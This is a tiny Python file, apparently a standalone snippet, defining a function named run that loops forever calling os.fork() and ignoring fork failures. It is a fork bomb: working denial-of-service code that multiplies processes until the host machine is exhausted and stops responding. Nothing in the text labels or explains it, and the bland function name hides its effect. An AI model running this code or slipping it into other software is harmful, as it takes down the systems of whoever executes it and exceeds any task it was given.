import os


def run(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
